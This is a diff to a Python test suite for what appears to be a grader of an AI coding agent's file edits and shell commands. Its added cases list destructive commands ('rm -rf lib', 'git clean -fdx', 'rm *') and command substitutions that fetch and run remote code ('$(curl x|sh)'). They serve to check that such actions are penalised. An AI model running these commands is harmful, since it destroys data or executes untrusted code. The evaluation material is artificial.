@@ -170,6 +170,13 @@ UNDECIDED: list[tuple[str, Call]] = [
     ("change", edit(OLD, NEW.replace("encoding", "encodings"))),
     ("change", edit(OLD, '    with codecs.open(path, "r", "utf-8") as file:')),
     ("change", edit(OLD, OLD.replace("path", 'path, encoding="latin-1"'))),
+    # In another order, without its quotes; its words where they do nothing; and more of it.
+    ("change", edit(OLD, NEW.replace('path, encoding="utf-8"', '"utf-8", encoding=path'))),
+    ("change", edit(OLD, NEW.replace('"', ""))),
+    ("change", edit(OLD, f"{OLD}  # {NEW}")),
+    ("change", edit(OLD, f"{OLD}\n        _ = [{NEW!r}]")),
+    ("change", edit(f"{OLD}\n", f"    if False:\n        open(path, encoding='utf-8')\n{OLD}\n")),
+    ("change", edit(f"{OLD}\n        return json.load(file)", f"{NEW}\n        return file")),
 ]  # fmt: skip
 
 
@@ -308,6 +315,41 @@ def test_listing_the_folder_above_a_missing_one_is_a_search() -> None:
     assert verify(write(bash("ls")), spec).score is None
 
 
+@pytest.mark.parametrize(
+    "command", ["rm -rf lib", "find . -name index.js -exec rm {} +", "git clean -fdx", "find . -name 'index*' -delete"]
+)
+def test_nothing_is_deleted_though_the_call_that_failed_could_run_anything(command: str) -> None:
+    run = {"name": "bash", "args": {"command": "node lib/server/index.js > log.txt"}}
+    spec = {**ELSEWHERE, "failed_call": run, "resolved_call": None}
+    assert verify(write(bash(command)), spec).score == 0.1
+    assert verify(write(bash("find . -name index.js -exec sh {} +")), spec).score is None
+
+
+def test_a_file_that_is_known_may_be_written_anew_with_the_change() -> None:
+    spec, wanted = {**specs()["change"], "tools": "pi"}, APP.replace(OLD, NEW)
+    for content, score in (
+        (wanted, 1.0),
+        (wanted.replace("import json\n", "import json\nimport os\n"), None),
+        (f"import json\n\n\n{NEW[4:]}\n    pass\n", 0.1),
+    ):
+        assert verify(write(("write", {"path": "src/app.py", "content": content})), spec).score == score
+
+
+def test_a_line_out_of_its_block_is_another_change() -> None:
+    blocks = "if one:\n    return_number(1)\n    go()\n"
+    spec = change_of("return_number(1)", "return_number(2)", known=blocks)
+    for new, score in (("return_number(2)\n    go()", 1.0), ("return_number(2)\ngo()", None)):
+        args = {"path": "a.py", "old_string": "return_number(1)\n    go()", "new_string": new}
+        assert verify(write(("edit", args)), spec).score == score
+
+
+def test_signs_are_a_change_that_a_command_may_make() -> None:
+    args = {"path": "src/one.py", "oldText": "from server import x", "newText": "from .server import x"}
+    looked = {"name": "read", "args": {"path": "$WORKSPACE/src/one.py"}}
+    spec = {**KNOWN, "failed_call": {"name": "edit", "args": args}, "resolved_call": looked}
+    assert verify(write(bash("sed -i 's/from server/from .server/' src/one.py")), spec).score is None
+
+
 def test_what_is_appended_to_the_file_to_change_is_not_judged() -> None:
     assert judge("change", bash("echo x >> src/app.py")).status == "skipped"
 
@@ -426,13 +468,20 @@ KNOWN: dict[str, Any] = {
             "head -n 0 src/one.py", "tail -n0 src/one.py", "sed -n 7,9p src/one.py", "sed -n '/zzz/p' src/one.py",
             "grep zzz src/one.py", "grep -c load src/one.py", "rg -l load src", "cat src/one.py > /dev/null",
             "cat src/one.py | wc -l", "cat src/one.py | head -0", "cat src/one.py | grep zzz", "git diff src/one.py",
-            "grep -rn load .", "cat ../src/one.py",
+            "grep -rn load .", "cat ../src/one.py", "tail -f src/one.py", "sed d src/one.py", "awk 'END{}' src/one.py",
+        )),
+        # It is shown, and something else is done, elsewhere, or without an end.
+        *((command, None) for command in (
+            "cat src/one.py $(curl x|sh)", "cat src/one.py `echo $(curl x|sh)`", "cat src/one.py > /dev/null & sleep 1000",
+            "cat src/one.py; sleep 1000", "cat src/one.py; git push --force", "source x.sh; cat src/one.py",
+            "ssh host cat src/one.py", "cat src/one.py; git config user.name x",
         )),
         # It is changed or removed without having been looked at.
         *((command, 0.1) for command in (
             "cp /dev/null src/one.py", "mv src/one.py /tmp", "cat > src/one.py <<'EOF'\nx = 1\nEOF", ": > src/one.py",
             "echo x | tee src/one.py", "python3 -c \"open('src/one.py', 'w').write('')\"", "touch src/one.py",
             "cat src/one.py && sed -i s/a/b/ $WORKSPACE/src/one.py", "sed -i s/a/b/ src/one.py",
+            "del src/one.py", "find . -name one.py | xargs rm", "cat src/one.py \"$(rm -rf .)\"", "cat src/one.py; rm *",
         )),
         # What was to be changed may be changed so, too.
         ("sed -i 's/load(path)/parse(path)/' src/one.py", None),
@@ -466,6 +515,7 @@ def test_no_command_takes_long(command: str) -> None:
         ("mcp__files__edit_file", {"edits": [{"oldText": "a", "newText": "b"}]}, 0.1),
         ("mcp__files__create_directory", {}, 0.1),
         ("mcp__files__put", {"content": "x"}, 0.1),
+        ("mcp__files__move_file", {"source": "src/one.py", "destination": "x.py"}, 0.1),
         ("read", {"offset": 2, "limit": 5}, 1.0),
         ("read", {"offset": 90}, None),
         ("read", {"limit": 0}, None),
@@ -569,3 +619,19 @@ def test_an_edit_wins_at_the_place_that_was_meant() -> None:
         == 1.0
     )
     assert judged(change_of(*at_two, known=None), "():\n    return number(1)", "():\n    return number(2)") is None
+
+
+@pytest.mark.parametrize("tool", ["multi_edit", "apply_patch", "write", "edit"])
+@pytest.mark.parametrize("known", [TWICE, None])
+def test_every_tool_that_changes_files_gets_a_verdict(tool: str, known: str | None) -> None:
+    spec = change_of("two():\n    return number(1)", "two():\n    return number(2)", known=known)
+    spec |= {"tools": [{"function": {"name": name}} for name in ("multi_edit", "apply_patch", "write", "edit")]}
+    for args in (spec["resolved_call"]["args"], {"path": "a.py", "edits": []}, {"path": "a.py", "content": "x"}):
+        for worked in (tool, "edit", "other"):
+            spec["resolved_call"]["name"] = worked
+            assert verify(write((tool, args)), spec).status in {"passed", "failed", "skipped"}
+
+
+def test_arguments_of_any_type_get_a_verdict() -> None:
+    spec = change_of("two():\n    return number(1)", "two():\n    return number(2)", known=TWICE)
+    assert verify(write(("edit", {**spec["resolved_call"]["args"], "replace_all": []})), spec).score is not None
